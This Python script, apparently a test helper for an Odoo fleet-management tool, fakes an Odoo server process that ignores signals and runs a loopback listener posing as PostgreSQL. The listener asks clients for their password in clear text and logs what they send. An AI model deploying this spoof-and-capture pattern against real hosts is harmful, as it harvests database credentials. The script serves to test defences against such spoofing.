# Copyright (c) 2026, fleetops.odoo contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Look like a threaded server whose arguments name files of others, and listen as PostgreSQL.

Arguments: an odoo.conf, a folder of addons, a log. The listener writes down what comes to it.
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import time

LOOKS_LIKE_A_SERVER = """
import signal, time
for name in ("HUP", "INT", "QUIT", "USR1", "USR2", "TERM", "CHLD", "XCPU"):
    signal.signal(getattr(signal, "SIG" + name), lambda *_arguments: None)
while True:
    time.sleep(60)
"""


def listen(server: socket.socket) -> None:
    """Ask every client for its password in clear text."""
    with open("/tmp/heard-%d" % os.getuid(), "wb", buffering=0) as heard:
        while True:
            client, _address = server.accept()
            try:
                client.settimeout(5)
                for answer in (b"N", b"R" + struct.pack("!ii", 8, 3), b""):
                    heard.write(client.recv(4096))
                    client.sendall(answer)
            except OSError:
                pass
            client.close()


config, addons, log = sys.argv[1:]
server = socket.create_server(("127.0.0.1", 0))
port = server.getsockname()[1]
folder = "/tmp/forged-%d" % os.getuid()
os.makedirs(folder, exist_ok=True)
with open(folder + "/odoo", "w") as script:
    script.write(LOOKS_LIKE_A_SERVER)

listener = os.fork()
if listener == 0:
    listen(server)
forged = os.fork()
if forged == 0:
    server.close()
    words = [
        "--config",
        config,
        "--db_host",
        "127.0.0.1",
        "--db_port",
        str(port),
        "--addons-path",
        addons,
        "--logfile",
        log,
    ]
    os.execv("/usr/bin/python3", ["python3", folder + "/odoo", *words])
time.sleep(0.5)
print(forged, listener, flush=True)
os.waitpid(forged, 0)
